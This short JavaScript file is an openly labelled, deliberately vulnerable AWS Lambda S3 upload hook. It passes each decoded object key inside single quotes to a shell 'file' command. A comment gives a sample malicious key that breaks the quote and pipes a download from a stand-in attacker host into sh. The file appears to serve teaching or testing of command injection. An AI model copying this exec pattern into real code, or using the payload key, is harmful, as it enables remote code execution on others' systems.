// Deliberately vulnerable: an S3 upload hook that sniffs each new object's type with `file`, quoting the key
// in single quotes. Quoting is not escaping: a key containing `'` closes the quote, so an upload named
// `x'; curl evil.example|sh #.pdf` runs the attacker's command. (The real function downloads the object to
// /tmp first; this example skips the download, `file` just reports that the path does not exist.)
import { exec } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(exec);

/** @param {import('aws-lambda').S3Event} event */
export async function handler(event) {
  const results = [];
  for (const record of event.Records) {
    // S3 form-encodes keys in notifications: `+` is a space, the rest is percent-encoded.
    const key = decodeURIComponent(record.s3.object.key.replace(/\+/g, ' '));
    try {
      // VULNERABLE: '${key}' is a shell string; a quote in the key ends it.
      const { stdout } = await run(`file --brief '/tmp/${key}'`);
      results.push({ key, type: stdout.trim() });
    } catch (error) {
      console.error(`could not inspect ${key}: ${error.message}`);
      results.push({ key, type: null });
    }
  }
  return { results };
}
